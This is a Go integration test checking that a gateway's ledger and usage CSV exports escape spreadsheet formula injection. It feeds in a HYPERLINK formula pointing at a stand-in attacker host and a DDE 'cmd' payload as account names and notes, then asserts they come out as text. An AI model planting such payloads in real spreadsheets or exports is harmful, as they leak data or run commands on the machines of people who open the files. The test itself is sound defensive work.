package integration

import (
	"encoding/csv"
	"encoding/json"
	"net/url"
	"strings"
	"testing"
	"time"
)

// TestCSVExportsAreNotFormulas: an account whose name a spreadsheet would read as a formula
// (an operator's sign-up automation names accounts after what customers type) and a credit
// note that is one reach the ledger and usage CSV exports as text: each such cell begins with an
// apostrophe, the amounts stay numbers. Notes with quotes, commas, line breaks and bytes that
// are not UTF-8 stay one cell of one row when encoding/csv reads the export.
func TestCSVExportsAreNotFormulas(t *testing.T) {
	e := startKeysGateway(t)
	account := `=HYPERLINK("attacker.example?"&A1,"open")`
	_, secret := e.newKey(t, `{"account":`+string(must(json.Marshal(account)))+`,"models":["sim-video"]}`)
	path := "/mediagw/accounts/" + url.PathEscape(account)
	if r := e.adminMoney(t, "POST", path+"/credit", `{"amount":"5","note":"-2+3+cmd|' /C calc'!A0"}`,
		map[string]string{"Content-Type": "application/json", "Idempotency-Key": "c1"}); r.status != 200 {
		t.Fatalf("credit = %d %s", r.status, r.body)
	}
	// Quotes, commas and line breaks stay inside their cell: each note is one cell of one row.
	// (A note whose bytes are not UTF-8 is refused: TestAdminAPIRefusesTextThatIsNotUTF8.)
	notes := map[string]string{
		`he said "hi", then left`:    `he said "hi", then left`,
		"line 1\nline 2, \"quoted\"": "line 1\nline 2, \"quoted\"",
		"a\rb":                       "a\rb",
		"\t@SUM(A1)":                 "'\t@SUM(A1)",
	}
	for note := range notes {
		quoted := string(must(json.Marshal(note)))
		if r := e.adminMoney(t, "POST", path+"/credit", `{"amount":"1","note":`+quoted+`}`,
			map[string]string{"Content-Type": "application/json", "Idempotency-Key": "note-" + url.QueryEscape(note)}); r.status != 200 {
			t.Fatalf("credit with note %q = %d %s", note, r.status, r.body)
		}
	}
	if r := e.createTask(t, secret, "a lighthouse"); r.status != 200 {
		t.Fatalf("create = %d %s", r.status, r.body)
	}

	r := e.admin(t, "GET", path+"/ledger?format=csv", nil)
	rows, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
	if err != nil || r.status != 200 || len(rows) < 2 {
		t.Fatalf("ledger CSV = %d %s (%v)", r.status, r.body, err)
	}
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		if len(row) != 12 {
			t.Fatalf("ledger CSV row of %d cells: %q", len(row), row)
		}
		seen[row[11]] = true
		if row[2] != "'"+account {
			t.Errorf("ledger account cell = %q, want it as text: %q", row[2], "'"+account)
		}
		if row[0] == "1" && (row[11] != "'-2+3+cmd|' /C calc'!A0" || row[8] != "5") {
			t.Errorf("credit row = %q: want the note as text and the amount 5", row)
		}
	}
	for note, cell := range notes {
		if !seen[cell] {
			t.Errorf("no ledger CSV row has the note %q as %q; notes: %v", note, cell, seen)
		}
	}

	from, to := time.Now().UTC().AddDate(0, 0, -1).Format(time.DateOnly), time.Now().UTC().AddDate(0, 0, 1).Format(time.DateOnly)
	deadline := time.Now().Add(20 * time.Second)
	for {
		r := e.admin(t, "GET", "/mediagw/usage?format=csv&group_by=account,model&account="+url.QueryEscape(account)+"&from="+from+"&to="+to, nil)
		lines, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
		if err == nil && len(lines) == 2 {
			if lines[1][0] != "'"+account || lines[1][1] != "sim-video" {
				t.Fatalf("usage CSV row = %q, want the account as text", lines[1])
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("usage CSV = %d %s, want one row", r.status, r.body)
		}
		time.Sleep(250 * time.Millisecond)
	}
}

// must returns v, or panics on err: for values a test builds itself.
func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}
